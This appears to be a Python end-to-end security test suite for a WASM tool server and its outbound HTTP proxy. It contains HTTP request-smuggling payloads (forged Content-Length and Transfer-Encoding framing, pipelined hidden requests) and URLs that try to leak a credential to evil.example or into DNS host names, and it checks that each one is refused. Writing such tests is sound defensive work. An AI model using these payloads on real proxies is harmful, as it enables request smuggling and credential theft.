"""Attacks on a running server by hostile tools and hostile parameters:
each asserts the exact refusal and that the server is healthy afterwards.
(Attacks on the HTTP front, secrets, tool loading and operations have
their own test_attacks_*.py files.)"""

import json
import os
import shutil
import socket
import subprocess
import threading
import time

from harness import BIN, CACHE_DIR, Server, ServerTestCase, main, read_audit

TOOLS_DIR = os.environ.get("CLAWBOX_E2E_TOOLS", "build/tools/wasm")
HOSTILE_DIR = os.environ.get("CLAWBOX_E2E_HOSTILE", "build/tests/fixtures")


MASTER_KEY = "22" * 32
SECRET = "victim-api-key-5b7e0c9d2a41f386"
MIXED = "Zx9QpL4mN7vB2cR8tY6wKd3H"  # a secret with upper-case letters


def valid_utf8(b):
    try:
        b.decode("utf-8")
        return True
    except UnicodeDecodeError:
        return False


class HostCallTextTests(ServerTestCase):
    """Host-call envelopes and names whose text, quoted into a message and
    cut to the message buffer, could end inside a UTF-8 sequence: the
    message must stay valid JSON and the server must stay up."""

    @classmethod
    def setUpClass(cls):
        cls.server = Server(cache_dir=CACHE_DIR)
        tool_dir = os.path.join(cls.server.dir, "tools")
        os.makedirs(tool_dir)
        shutil.copy(os.path.join(TOOLS_DIR, "echo.wasm"), tool_dir)
        shutil.copy(os.path.join(HOSTILE_DIR, "rawcall.wasm"), tool_dir)
        cls.server.start()

    def rawcall(self, envelope):
        """Runs the rawcall tool, which sends `envelope` (its params) as one
        host call and prints the answer; returns the answer."""
        r = self.server.request("POST", "/execute", {"tool": "rawcall", "params": envelope},
                                timeout=60)
        self.assertEqual(r.status, 200, r.body)
        self.assertTrue(valid_utf8(r.body), r.body[:200])
        return r.json()["output"]

    def test_long_non_ascii_method_gets_an_error_not_a_crash(self):
        # One run for each width of sequence and each place the cut can
        # fall inside one.
        for ch in ("é", "€", "😀"):
            for pad in range(4):
                with self.subTest(ch=ch, pad=pad):
                    out = self.rawcall({"method": "x" * pad + ch * 600, "params": {}})
                    prefix = "unknown host call method: " + "x" * pad + ch
                    self.assertTrue(out["error"].startswith(prefix), out)
                    self.assert_healthy()

    def test_non_ascii_text_in_other_host_call_messages(self):
        out = self.rawcall({"method": "http_request", "params": {"url": "€" * 3000}})
        self.assertIn("error", out)
        out = self.rawcall({"method": "http_request",
                            "params": {"url": "https://example.com/", "method": "é" * 400}})
        self.assertIn("invalid 'method'", out["error"])
        out = self.rawcall({"method": "http_request",
                            "params": {"url": "https://example.com/",
                                       "headers": {"é" * 5000: "v"}}})
        self.assertIn("error", out)
        out = self.rawcall({"method": "log", "params": {"message": "€" * 20000}})
        self.assertEqual(out, {"ok": None})
        self.assert_healthy()

    def test_log_message_cut_inside_a_sequence_is_kept(self):
        r = self.server.request("POST", "/execute",
                                {"tool": "rawcall",
                                 "params": {"method": "log", "params": {"message": "€" * 9000}}},
                                timeout=60)
        self.assertEqual(r.status, 200, r.body)
        logs = r.json()["metadata"]["logs"]
        self.assertEqual(len(logs), 1, logs)
        msg = logs[0]["message"]
        self.assertTrue(set(msg) == {"€"} and 5000 < len(msg) <= 16384 // 3, len(msg))

    def test_module_file_name_that_is_not_utf8_is_reported(self):
        tool_dir = os.path.join(self.server.dir, "tools").encode()
        bad = os.path.join(tool_dir, b"\xff\xfe-bad.wasm")
        shutil.copy(os.path.join(TOOLS_DIR, "echo.wasm"), bad)
        try:
            r = self.server.request("POST", "/tools/reload")
            self.assertEqual(r.status, 200, r.body)
            failed = r.json()["failed"]
            self.assertIn({"tool": "\ufffd\ufffd-bad", "error": "invalid tool name: must be 1-64 "
                           "chars, [a-zA-Z0-9_-] only"}, failed)
        finally:
            os.unlink(bad)
        self.assert_healthy()

    def test_long_non_ascii_tool_name_gets_404_with_its_error(self):
        for ch in ("é", "€", "😀"):
            for pad in range(4):
                with self.subTest(ch=ch, pad=pad):
                    r = self.server.request("POST", "/execute",
                                            {"tool": "x" * pad + ch * 2000, "params": {}})
                    self.assert_error(r, 404, "tool_not_found")
                    self.assertTrue(r.json()["error"].startswith("tool '" + "x" * pad + ch),
                                    r.body[:100])
        self.assert_error(self.server.request("GET", "/tools/" + "%C3%A9" * 1000), 404,
                          "tool_not_found")
        self.assert_healthy()



class RawUpstream:
    """A loopback HTTP/1.1 server that frames requests by Content-Length
    (and chunked bodies), as real servers do, and keeps connections alive.
    It records every request it parses, with the connection it came on,
    and answers each with a JSON description of it. `/slow-*` paths are
    answered after 300 ms."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.lock = threading.Lock()
        self.requests = []  # (conn, method, path, headers, body)
        self.raw = {}  # conn -> every byte received
        self.conns = 0
        threading.Thread(target=self.accept_loop, daemon=True).start()

    def close(self):
        self.sock.close()

    def accept_loop(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            with self.lock:
                self.conns += 1
                n = self.conns
                self.raw[n] = b""
            threading.Thread(target=self.serve, args=(c, n), daemon=True).start()

    def read_more(self, c, n, buf):
        data = c.recv(65536)
        if not data:
            raise EOFError
        with self.lock:
            self.raw[n] += data
        return buf + data

    def read_body(self, c, n, buf, headers):
        if headers.get("transfer-encoding", "").lower() == "chunked":
            body = b""
            while True:
                while b"\r\n" not in buf:
                    buf = self.read_more(c, n, buf)
                line, buf = buf.split(b"\r\n", 1)
                size = int(line.split(b";")[0], 16)
                while len(buf) < size + 2:
                    buf = self.read_more(c, n, buf)
                body, buf = body + buf[:size], buf[size + 2:]
                if size == 0:
                    return body, buf
        length = int(headers.get("content-length", "0") or 0)
        while len(buf) < length:
            buf = self.read_more(c, n, buf)
        return buf[:length], buf[length:]

    def serve(self, c, n):
        buf = b""
        try:
            while True:
                while b"\r\n\r\n" not in buf:
                    buf = self.read_more(c, n, buf)
                head, buf = buf.split(b"\r\n\r\n", 1)
                lines = head.decode("latin-1").split("\r\n")
                parts = lines[0].split(" ")
                method, path = parts[0], parts[1] if len(parts) > 1 else ""
                headers = {}
                for line in lines[1:]:
                    k, _, v = line.partition(":")
                    headers.setdefault(k.strip().lower(), v.strip())
                body, buf = self.read_body(c, n, buf, headers)
                with self.lock:
                    self.requests.append((n, method, path, headers, body))
                if path.startswith("/slow"):
                    time.sleep(0.3)
                out = json.dumps({"conn": n, "method": method, "path": path,
                                  "body_len": len(body)}).encode()
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                          b"Content-Length: " + str(len(out)).encode() + b"\r\n\r\n" + out)
        except (EOFError, OSError, ValueError):
            pass
        finally:
            c.close()


class ProxyAttackTests(ServerTestCase):
    """`http_request` is the attacker, with parameters a prompt-injected
    model could choose; `victim` is the same module under another name,
    granted a credential for the upstream. One tool's parameters must never
    frame another tool's request on a shared upstream connection, and a
    secret a tool tries to send never reaches the audit log or a DNS
    query."""

    @classmethod
    def setUpClass(cls):
        cls.upstream = RawUpstream()
        cls.base = f"http://127.0.0.1:{cls.upstream.port}"
        server = Server(extra_config='[proxy]\nallow_private_cidrs = ["127.0.0.0/8"]\n'
                        'default_timeout_ms = 3000\n', env={"CLAWBOX_MASTER_KEY": MASTER_KEY},
                        cache_dir=CACHE_DIR)
        tool_dir = os.path.join(server.dir, "tools")
        os.makedirs(tool_dir)
        for name in ("http_request", "victim"):
            shutil.copy(os.path.join(TOOLS_DIR, "http_request.wasm"),
                        os.path.join(tool_dir, name + ".wasm"))
        with open(server.config_path, "a") as f:
            f.write(f'[credentials]\nstore_path = "{server.dir}/credentials.enc"\n')
        for name, value in (("api", SECRET), ("mixed", MIXED)):
            subprocess.run([BIN, "creds", "--config", server.config_path, "add", "--name", name,
                            "--domain", "127.0.0.1", "--header", "X-Api-Key", "--allow-http"],
                           input=value, text=True, check=True, timeout=30,
                           env=dict(server.env, CLAWBOX_MASTER_KEY=MASTER_KEY))
        cls.server = server.start()
        for name, creds in (("http_request", None), ("victim", {"available": ["api"]})):
            r = server.request("POST", "/tools/register", cls.manifest(name, creds))
            assert r.status in (200, 201), r.body

    @staticmethod
    def manifest(name, creds=None, allowlist=("127.0.0.1", "*.allowed.example")):
        return {"tool": {"name": name, "description": "proxy attack test", "version": "0.1.0"},
                "network": {"allowlist": list(allowlist)}, "credentials": creds}

    @classmethod
    def tearDownClass(cls):
        super().tearDownClass()
        cls.upstream.close()

    def setUp(self):
        with self.upstream.lock:
            self.mark = len(self.upstream.requests)

    def call(self, tool, params, **kw):
        body = {"tool": tool, "params": params}
        body.update(kw)
        r = self.server.request("POST", "/execute", body, timeout=60)
        self.assertEqual(r.status, 200, r.body)
        return r.json()["output"]

    def victim(self, path):
        return self.call("victim", {"url": self.base + path},
                         capabilities={"credentials": ["api"]})

    def assert_victim_alone(self, path, out):
        """The victim got the answer to its own request, and the upstream
        parsed that request, with the credential, as a request of its own,
        never inside another one."""
        self.assertEqual(json.loads(out.get("body", "{}")).get("path"), path, out)
        with self.upstream.lock:
            reqs = self.upstream.requests[self.mark:]
            self.mark = len(self.upstream.requests)
        own = [r for r in reqs if r[2] == path]
        self.assertEqual(len(own), 1, reqs)
        self.assertEqual(own[0][1], "GET")
        self.assertEqual(own[0][3].get("x-api-key"), "Bearer " + SECRET)
        for r in reqs:
            if r[2] != path:
                self.assertNotIn(SECRET.encode(), r[4], r)
                self.assertNotIn(SECRET, json.dumps(r[3]), r)
        self.assertFalse([r for r in reqs if r[2].startswith("/smuggled")], reqs)

    def assert_own_answer(self, path):
        """The attacker tool's next request, which shares its connections,
        is framed as sent too: its answer is its own."""
        out = self.call("http_request", {"url": self.base + path})
        self.assertEqual(json.loads(out.get("body", "{}")).get("path"), path, out)
        with self.upstream.lock:
            reqs = self.upstream.requests[self.mark:]
            self.mark = len(self.upstream.requests)
        self.assertEqual([(r[1], r[2]) for r in reqs], [("GET", path)], reqs)

    def test_tool_content_length_cannot_smuggle_a_request(self):
        smuggled = ("POST /smuggled-collect HTTP/1.1\r\nHost: x\r\n"
                    "Content-Length: 12\r\n\r\n")
        for cl in ("0", "1", " 0", "0, 0"):
            with self.subTest(cl=cl):
                out = self.call("http_request", {"url": self.base + "/a", "method": "POST",
                                                 "headers": {"Content-Length": cl},
                                                 "body": smuggled})
                self.assertEqual(out.get("status"), 200, out)
                # The whole body reached the upstream as the body.
                self.assertEqual(json.loads(out["body"])["body_len"], len(smuggled), out)
                path = f"/victim-cl-{self.mark}"
                self.assert_victim_alone(path, self.victim(path))
                self.assert_own_answer(f"/next-cl-{self.mark}")
        self.assert_healthy()

    def test_tool_transfer_encoding_cannot_smuggle_a_request(self):
        smuggled = "0\r\n\r\nGET /smuggled-te HTTP/1.1\r\nHost: x\r\nX-Pad: "
        for name, value in (("Transfer-Encoding", "chunked"), ("transfer-encoding", "chunked"),
                            ("TE", "trailers"), ("Connection", "Content-Length"),
                            ("Expect", "100-continue"), ("Trailer", "X-Api-Key"),
                            ("Upgrade", "h2c"), ("Keep-Alive", "timeout=600")):
            with self.subTest(header=name):
                out = self.call("http_request", {"url": self.base + "/a", "method": "POST",
                                                 "headers": {name: value}, "body": smuggled})
                self.assertEqual(out.get("status"), 200, out)
                self.assertEqual(json.loads(out["body"])["body_len"], len(smuggled), out)
                path = f"/victim-te-{self.mark}"
                self.assert_victim_alone(path, self.victim(path))
                self.assert_own_answer(f"/next-te-{self.mark}")
        self.assert_healthy()

    def test_pipelined_request_in_body_cannot_poison_a_response(self):
        # With the attacker's framing, the upstream would answer a second
        # request hidden in the body, late, and the victim reading the
        # shared connection would take that answer for its own.
        hidden = "GET /slow-smuggled-poison HTTP/1.1\r\nHost: x\r\n\r\n"
        out = self.call("http_request", {"url": self.base + "/a", "method": "POST",
                                         "headers": {"Content-Length": "0"}, "body": hidden})
        self.assertEqual(out.get("status"), 200, out)
        path = "/victim-poison"
        self.assert_victim_alone(path, self.victim(path))
        self.assert_own_answer("/next-poison")
        self.assert_healthy()

    def test_connections_are_not_shared_between_tools(self):
        self.call("http_request", {"url": self.base + "/shared-attacker"})
        self.victim("/shared-victim-1")
        self.victim("/shared-victim-2")
        self.call("http_request", {"url": self.base + "/shared-attacker-2"})
        with self.upstream.lock:
            conn = {r[2]: r[0] for r in self.upstream.requests}
        self.assertNotEqual(conn["/shared-attacker"], conn["/shared-victim-1"])
        self.assertNotEqual(conn["/shared-attacker-2"], conn["/shared-victim-2"])
        # A tool still reuses its own connections.
        self.assertEqual(conn["/shared-victim-1"], conn["/shared-victim-2"])
        self.assertEqual(conn["/shared-attacker"], conn["/shared-attacker-2"])

    def proxy_audit(self):
        lines, blob = read_audit(os.path.join(self.server.dir, "audit"))
        return [x for x in lines if x.get("kind") == "proxy"], blob

    def test_secret_in_a_refused_url_is_not_written_to_the_audit_log(self):
        urls = ["http://evil.example/" + SECRET, f"{self.base}/p/{SECRET}?q={SECRET}#{SECRET}",
                f"{self.base}/p/{MIXED}", f"http://{SECRET}.allowed.example/",
                f"http://{MIXED}.allowed.example/", f"http://evil.example/{SECRET}:{SECRET}",
                f"http://{MIXED.lower()}.allowed.example/"]
        for url in urls:
            with self.subTest(url=url):
                out = self.call("http_request", {"url": url})
                self.assertIn("error", out)
        out = self.call("http_request", {"url": self.base + "/m", "method": "X" + MIXED})
        self.assertIn("error", out)
        lines, blob = self.proxy_audit()
        self.assertGreaterEqual(len(lines), len(urls))
        for secret in (SECRET, MIXED, MIXED.lower()):
            self.assertNotIn(secret.encode(), blob)
        self.assertIn(b"[REDACTED]", blob)

    def test_secret_in_a_host_name_is_refused_before_any_lookup(self):
        # Under *.allowed.example a secret spelled into a host name would
        # reach a DNS server; it is refused as a leak instead (a lookup
        # would have failed with "cannot resolve": these machines have no
        # DNS for that name).
        hosts = (f"{SECRET}.allowed.example", f"{MIXED}.allowed.example",
                 f"x.{SECRET.upper()}.allowed.example", f"{MIXED.lower()}.allowed.example")
        for host in hosts:
            with self.subTest(host=host):
                out = self.call("http_request", {"url": f"http://{host}/"})
                self.assertIn("contains a credential", out.get("error", ""), out)
        lines, _ = self.proxy_audit()
        self.assertEqual([x["decision"] for x in lines[-len(hosts):]],
                         ["leak_blocked"] * len(hosts))
        self.assert_healthy()

    def test_wildcard_on_a_public_suffix_is_refused(self):
        for entry in ("*.com", "*.co.uk", "*.github.io", "*", "*.COM."):
            with self.subTest(entry=entry):
                r = self.server.request("POST", "/tools/register",
                                        self.manifest("http_request", allowlist=[entry]))
                self.assert_error(r, 400, "invalid_request")
                self.assertIn("proxy.allow_wildcard_all", r.json()["error"])
        # The one validator takes what the proxy matches: IPv6 literals too.
        try:
            r = self.server.request("POST", "/tools/register", self.manifest(
                "http_request", allowlist=["[2001:db8::1]", "2001:db8::2", "127.0.0.1"]))
            self.assertEqual(r.status, 200, r.body)
            out = self.call("http_request", {"url": "http://[2001:db8::3]/"})
            self.assertIn("is not in the allowlist", out["error"])
            out = self.call("http_request", {"url": "http://[2001:db8::1]/"})
            self.assertIn("blocked", out["error"])  # a documentation address
            self.assertNotIn("allowlist", out["error"])
        finally:
            r = self.server.request("POST", "/tools/register", self.manifest("http_request"))
            self.assertEqual(r.status, 200, r.body)
        self.assert_healthy()

    def test_control_characters_in_header_values_are_refused(self):
        for value in ("a\rb", "a\nb", "a\x0bb", "a\x0cb", "a\x7fb", "a\x1bb"):
            with self.subTest(value=value):
                out = self.call("http_request", {"url": self.base + "/h",
                                                 "headers": {"X-Test": value}})
                self.assertIn("holds a line break, NUL or other control character",
                              out.get("error", ""), out)
        out = self.call("http_request", {"url": self.base + "/h-tab",
                                         "headers": {"X-Test": "a\tb é"}})
        self.assertEqual(out.get("status"), 200, out)
        with self.upstream.lock:
            paths = [r[2] for r in self.upstream.requests[self.mark:]]
        self.assertEqual(paths, ["/h-tab"])
        self.assert_healthy()

    def test_connect_method_is_refused(self):
        for method in ("CONNECT", "connect", "TRACE"):
            out = self.call("http_request", {"url": self.base + "/a", "method": method})
            self.assertIn("is not allowed through the proxy", out.get("error", ""), out)
        with self.upstream.lock:
            self.assertEqual(self.upstream.requests[self.mark:], [])
        self.assert_healthy()


if __name__ == "__main__":
    main()
